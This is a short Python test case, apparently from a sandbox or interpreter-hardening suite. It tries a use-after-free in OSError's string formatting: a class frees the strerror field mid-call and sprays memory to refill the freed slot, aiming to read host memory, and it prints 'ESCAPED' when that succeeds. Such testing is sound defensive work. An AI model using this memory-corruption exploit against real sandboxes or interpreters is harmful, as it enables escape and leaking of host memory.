# id: oserror-text-drops-members
# class: crash
# expect: contained
# technique: reads the host's memory: OSError.__str__'s strerror is a freed str whose place the guest refills (raw bytes as str)
# source: own
# verified: no
class Evil:
    def __str__(self):
        global keep
        e.strerror = None
        keep = [[k, i] for i in range(3000)]
        return 'evil'
for k in range(60):
    e = OSError(1, 'x', 'y', None, 'z')
    e.errno = Evil()
    e.strerror = ('%05d' % k) * (1 + k)
    try: r = str(e)
    except (SystemError, ValueError, MemoryError) as x: r = 'X' + repr(x)
    if ('%05d' % k) not in r: print('ESCAPED:oserror-text-drops-members changed', k, ascii(r[:200]))
print('done')
